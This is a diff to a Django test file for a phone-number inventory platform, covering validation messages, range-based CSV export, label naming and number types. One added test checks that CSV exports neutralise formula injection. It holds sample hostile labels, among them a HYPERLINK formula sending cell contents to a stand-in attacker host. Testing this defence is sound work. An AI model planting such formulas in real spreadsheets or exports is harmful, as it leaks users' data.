@@ -69,10 +69,15 @@ def test_a_search_that_only_looks_like_digits_is_text_not_a_500(numbers):
     for url in ["/platform/numbers/inventory/?q=%C2%B2", "/platform/numbers/e911/?q=%C2%B2"]:
         assert admin.get(url).status_code == 200, url
     who_owns = admin.get("/platform/numbers/?number=%C2%B2")
-    assert "“²” is not a number: use E.164 digits." in who_owns.content.decode()
+    assert "“²” is not a phone number: it has characters other than digits" in (
+        who_owns.content.decode()
+    )
     owner = api_client(numbers.sysadmin).get("/api/v1/pools/owner/?number=%C2%B2")
     assert owner.status_code == 400
-    assert owner.json()["errors"]["number"] == ["“²” is not an E.164 number."]
+    assert owner.json()["errors"]["number"] == [
+        "“²” is not a phone number: it has characters other than digits (spaces, brackets, "
+        "dots and dashes may separate them)."
+    ]
 
 
 def test_a_prefix_longer_than_a_number_matches_nothing(numbers):
@@ -108,8 +113,54 @@ def test_agents_cannot_label(numbers):
 def test_csv_export_of_the_filtered_list(numbers):
     response = login(numbers.agent_a).get(f"/t/{numbers.a.slug}/numbers/export.csv?status=active")
     lines = b"".join(response.streaming_content).decode().splitlines()
-    assert lines[0].startswith("number,label,description,status")
-    assert lines[1:] == ["+16468097065,,,Active,US,New York,,yes,1.5000,,"]
+    assert lines[0].startswith("number,count,label,wavix_label,description,status")
+    assert lines[1:] == ["16468097065,1,,,,Active,US,New York,Geographic or mobile,yes,1.5000,,"]
+
+
+def test_export_of_a_million_numbers_lists_the_data_and_the_ranges_between(numbers):
+    """A pool is exported by range: the numbers with data one by one, the rest as ranges."""
+    from django_scopes import scope
+
+    from dids.models import DidNote
+
+    with scope(tenant=numbers.b):
+        DidNote.objects.create(tenant=numbers.b, number=12126000000, label="Reception")
+    response = login(numbers.agent_b).get(f"/t/{numbers.b.slug}/numbers/export.csv")
+    lines = b"".join(response.streaming_content).decode().splitlines()
+    assert lines[1:] == [
+        "12125550000,1,,,,Not held,,,,no,,,",
+        "12125550001,1,,,,Active,,,Geographic or mobile,yes,,,",
+        "12125550002-12125999999,449998,,,,Not held,,,,no,,,",
+        "12126000000,1,Reception,,,Not held,,,Geographic or mobile,no,,,",
+        "12126000001-12126549999,549999,,,,Not held,,,,no,,,",
+    ]
+
+
+def test_csv_exports_neutralise_formulas_but_not_numbers(numbers):
+    """OWASP: a cell starting with = + - @ tab or CR is quoted as text; numbers are digits."""
+    import csv
+    import io
+
+    api = api_client(numbers.admin_a, numbers.a)
+    base = f"/api/v1/tenants/{numbers.a.slug}/numbers"
+    hostile = {
+        16468097065: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        16468097066: "+1+1",
+        16468097067: "@SUM(A1:A9)",
+        16468097068: "-2+3",
+    }
+    for number, label in hostile.items():
+        assert api.patch(f"{base}/{number}/", {"label": label}, format="json").status_code == 200
+    response = login(numbers.agent_a).get(f"/t/{numbers.a.slug}/numbers/export.csv")
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    labels = {row[0]: row[2] for row in rows[1:]}
+    for number, label in hostile.items():
+        assert labels[str(number)] == "'" + label
+    assert all(row[0][0].isdigit() for row in rows[1:])  # numbers are never quoted
+
+    services.pool_save(tenant=numbers.a, text="16468097090", name="=1+1")
+    pools = login(numbers.sysadmin).get("/platform/numbers/pools.csv")
+    assert "acme,'=1+1,16468097090,1" in b"".join(pools.streaming_content).decode()
 
 
 def test_pool_usage_counts_per_range(numbers):
@@ -163,3 +214,42 @@ def test_api_pools_for_system_administrators(numbers):
     assert "already has a pool named “Sales”" in str(again.json()["errors"]["name"])
     owner = api.get("/api/v1/pools/owner/?number=%2B12125550001").json()
     assert owner["tenant"] == "globex" and owner["inventory"]["sms_enabled"] is True
+
+
+def test_the_wavix_label_and_the_tenants_label_are_named_apart(numbers):
+    from django_scopes import scope
+
+    from dids.models import DidNote
+
+    Did.objects.filter(number=16468097065).update(label="Billing")
+    Did.objects.filter(number=16468097066).update(label="Fax line")
+    with scope(tenant=numbers.a):
+        DidNote.objects.create(tenant=numbers.a, number=16468097066, label="Reception desk")
+    page = login(numbers.agent_a).get(f"/t/{numbers.a.slug}/numbers/").content.decode()
+    assert "<th>Your label</th>" in page
+    cells = page.split('data-testid="number-labels">')[1:3]
+    # A number with only a Wavix label shows it, named as Wavix's (it used to show "—").
+    assert "Wavix label: Billing" in cells[0] and "—" not in cells[0].split("</td>")[0]
+    assert "Reception desk" in cells[1] and "Wavix label: Fax line" in cells[1]
+    api = api_client(numbers.admin_a, numbers.a).get(
+        f"/api/v1/tenants/{numbers.a.slug}/numbers/16468097066/"
+    )
+    assert api.json()["label"] == "Reception desk" and api.json()["wavix_label"] == "Fax line"
+    admin = login(numbers.support).get("/admin/dids/did/").content.decode()
+    assert "Wavix label" in admin
+
+
+def test_the_type_column_is_filled_for_every_number(numbers):
+    Did.objects.filter(number=16468097066).update(number_type="toll_free")
+    page = login(numbers.agent_a).get(f"/t/{numbers.a.slug}/numbers/").content.decode()
+    types = [c.split("<")[0] for c in page.split('data-testid="number-type">')[1:]]
+    assert len(types) == 16 and all(types)
+    assert types[1] == "Toll free"  # Wavix's type when it has one
+    assert types[0] == "Geographic or mobile"  # else the numbering plan's
+    listing = api_client(numbers.agent_a, numbers.a).get(
+        f"/api/v1/tenants/{numbers.a.slug}/numbers/"
+    )
+    assert {r["number_type"] for r in listing.json()["results"]} == {
+        "Toll free",
+        "Geographic or mobile",
+    }
